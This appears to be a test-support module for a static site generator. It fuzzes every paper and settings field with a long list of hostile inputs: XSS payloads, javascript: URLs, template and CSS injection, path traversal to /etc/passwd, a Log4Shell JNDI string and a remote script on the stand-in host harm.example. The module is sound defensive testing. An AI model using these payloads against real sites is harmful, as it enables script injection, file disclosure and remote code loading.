"""What a stranger may try in every field, and the site that comes of all that the gate lets in."""

from __future__ import annotations

import json
import re
from typing import TYPE_CHECKING, Any

from generator import reading
from generator.authors import Author
from generator.config import Config
from generator.diagnostics import Diagnostics
from generator.folder import Folder
from generator.markup import Reader
from generator.paper import Links, Paper, Version
from generator.settings import read as read_settings
from generator.site import Settings
from generator.taxonomy import Vocabulary

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping
    from pathlib import Path

    from pydantic import BaseModel

# Every script says so in the same way; every address would be one of this host.
SCRIPT = "window.harm=1"
HOST = "harm.example"

PAYLOADS = (
    f"<script>{SCRIPT}</script>",
    f'"><script>{SCRIPT}</script>',
    f"'><img src=x onerror={SCRIPT}>",
    f'" onmouseover="{SCRIPT}" autofocus onfocus="{SCRIPT}',
    f"' onmouseover='{SCRIPT}",
    f"</script><script>{SCRIPT}</script>",
    f"</title></style></textarea></noscript><script>{SCRIPT}</script>",
    f"<!--<script>{SCRIPT}</script>",
    f"--><script>{SCRIPT}</script><!--",
    f"]]><script>{SCRIPT}</script><![CDATA[",
    f"<svg><script>{SCRIPT}</script></svg>",
    f"<svg/onload={SCRIPT}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={SCRIPT}>",
    f"<iframe srcdoc='<script>parent.{SCRIPT}</script>'>",
    f"<base href='https://{HOST}/'><link rel=stylesheet href='https://{HOST}/a.css'>",
    f"<meta http-equiv=refresh content='0;url=https://{HOST}/'>",
    f"<form action=https://{HOST}/><button formaction=javascript:{SCRIPT}>x</button></form>",
    f"<a href=javascript:{SCRIPT}>x</a>",
    f"javascript:{SCRIPT}",
    f" JaVaScRiPt:{SCRIPT}",
    f"javascript&colon;{SCRIPT}",
    f"javascript%3A{SCRIPT}",
    f"\u0001javascript:{SCRIPT}",
    f"java\u00adscript:{SCRIPT}",
    f"vbscript:{SCRIPT}",
    f"data:text/html,<script>{SCRIPT}</script>",
    f'https://{HOST}/"onmouseover="{SCRIPT}',
    f"https://{HOST}/' onmouseover='{SCRIPT}",
    f"https://{HOST}/<script>{SCRIPT}</script>",
    f"//{HOST}/x.js",
    f"\\\\{HOST}\\x",
    f"[x](javascript:{SCRIPT})",
    f"[x](java&#10;script:{SCRIPT})",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    f'[x](<javascript:{SCRIPT}> "onmouseover={SCRIPT}")',
    f"![x](https://{HOST}/x.png)",
    f'![x](https://{HOST}/x.png"onerror="{SCRIPT})',
    f"[x]: javascript:{SCRIPT}",
    f"$\\href{{javascript:{SCRIPT}}}{{x}}$",
    f"$\\text{{<script>{SCRIPT}</script>}}$",
    f'$\\class{{x" onmouseover="{SCRIPT}}}{{x}}$',
    "$\\includegraphics{/etc/passwd}$ \\input{/etc/passwd}",
    f"\\href{{javascript:{SCRIPT}}}{{x}}",
    f"\\url{{javascript:{SCRIPT}}}",
    f"`<script>{SCRIPT}</script>`",
    "{{ 7 * 191 }}{% include 'base.html' %}{{ site.__class__ }}",
    f"red;}}body{{background:url(https://{HOST}/x)}}",
    f"url(https://{HOST}/x)",
    f"expression({SCRIPT})",
    f"@import 'https://{HOST}/x.css'",
    f"red\nurl(//{HOST}/x)",
    f"image-set('//{HOST}/x.png' 1x)",
    f"src('//{HOST}/x')",
    "a\nER  - \nTY  - BOOK\nTI  - Injected",
    "a\r\nX-Injected: 1",
    "a}, title = {Injected}, note = {",
    'a"}, {"id": "injected',
    "@book{injected, title = {Injected}}",
    '=HYPERLINK("https://harm.example")',
    "../../../../etc/passwd",
    "/etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "C:\\Windows\\win.ini",
    "CON",
    "\u202egnp.exe",
    "a\u2028b\u2029c",
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),
    "\ufeffa",
    "\u0000a",
    "a\u007f\u0085b",
    "%00",
    "${jndi:ldap://harm.example/a}",
    "x" * 20_000,
)

VALID: Mapping[str, object] = {
    "title": "A Paper",
    "authors": ["Ada Lovelace"],
    "category": "CL",
    "date": "2024-05-06",
}
_UNSAID = re.compile("[\x7f-\xa0\u2028\u2029\ufeff]")
KEY = 1_000  # characters; a key of YAML has at most 1,024
# Fields whose value decides where a paper lies, or whether it is seen: they are tried alone.
_ALONE = frozenset({"slug", "key", "aliases", "draft", "unlisted", "date", "category", "authors"})


def variants(model: type[BaseModel], payload: str) -> Iterator[tuple[str, object]]:
    """Yield each field of a model with a payload in every shape that a value may have."""
    inner: dict[str, type[BaseModel]] = {
        "authors": Author,
        "editors": Author,
        "versions": Version,
        "links": Links,
    }
    for name in model.model_fields:
        for value in (payload, [payload], {payload: payload}):
            yield name, value
        if below := inner.get(name):
            for field, within in variants(below, payload):
                yield name, {field: within}
                yield name, [{field: within, **({"name": "A B"} if below is Author else {})}]


def said(value: object) -> str:
    """Return a value as YAML that says any text: as JSON, with fewer escapes than it may have."""
    text = json.dumps(value, ensure_ascii=False)
    return _UNSAID.sub(lambda match: f"\\u{ord(match[0]):04x}", text)


def entry(fields: Mapping[str, object], body: str) -> str:
    """Return the text of an entry."""
    lines = [f"{said(name)}: {said(value)}" for name, value in fields.items()]
    return "\n".join(["---", *lines, "---", body, ""])


def settings(model: type[BaseModel], payload: str) -> Iterator[dict[str, Any]]:
    """Yield what a settings file may hold, with a payload in each field."""
    for field, value in variants(model, payload):
        if model is Config:
            yield {"title": "T", field: value}
        else:
            yield {payload: {field: value}}
            yield {"Ada Lovelace": {field: value}}
    if model is Config:
        yield {"navigation": [{"title": payload, "path": payload}]}
        for tokens in ({payload: "1"}, {"accent": payload}):
            yield {"theme": {"all": tokens}}
            yield {"theme": {"light": tokens, "dark": tokens}}


def accepts(root: Path, name: str, fields: Mapping[str, Any]) -> bool:
    """Tell whether a settings file is let in; what is refused must come with a way out."""
    path = root / "content" / f"{name}.yaml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(said(fields), encoding="utf-8")
    folder = Folder(root, Diagnostics())
    read_settings(folder, None)
    path.unlink()
    errors = [one for one in folder.found if one.severity == "error"]
    assert all(one.help and one.message for one in errors)
    return not [one for one in errors if "There is no file" not in one.message]


def find_admitted(payload: str, tags: set[str], markup: Reader) -> dict[str, object]:
    """Return the fields of a paper that take a payload, each in the last shape that it takes.

    The tags that come of it are added to `tags`.
    """
    known = Settings(Config(), None, {}, Vocabulary())
    admitted: dict[str, object] = {}
    for name, value in variants(Paper, payload):
        text = entry({**VALID, name: value}, "About it.")
        data = text.encode("utf-8", "surrogatepass")
        read = reading.read("content/papers/a.md", data, known, markup)
        errors = [one for one in read.found if one.severity == "error"]
        assert all(one.help and one.message for one in errors)
        assert read.papers or errors, (name, value)
        if not errors:
            admitted[name] = value
            tags |= {tag for one in read.papers for tag in one.paper.tags}
    return admitted


def papers(root: Path) -> tuple[int, set[str]]:
    """Write a paper for all that the gate lets in; return how many values were tried, the tags."""
    tried = 0
    tags: set[str] = set()
    markup = Reader()
    (root / "content" / "papers").mkdir(parents=True)
    for number, payload in enumerate(PAYLOADS):
        admitted = find_admitted(payload, tags, markup)
        tried += sum(1 for _ in variants(Paper, payload))
        together = {name: value for name, value in admitted.items() if name not in _ALONE}
        papers = [{**VALID, **together}]
        if len(payload) > KEY:
            del admitted["category"]  # which `site.yaml` has to name
        papers += [{**VALID, name: admitted[name]} for name in sorted(_ALONE & admitted.keys())]
        for part, fields in enumerate(papers):
            path = root / "content" / "papers" / f"p{number:02}-{part}.md"
            whole = {"slug": f"p{number:02}-{part}", **fields}
            is_bare = fields.keys().isdisjoint({"abstract", "notes"}) and payload.isprintable()
            body = f"About it.\n\n## More\n\n{payload[:99]}\n" if is_bare else ""
            path.write_text(entry(whole, body), encoding="utf-8", newline="")
    return tried, tags
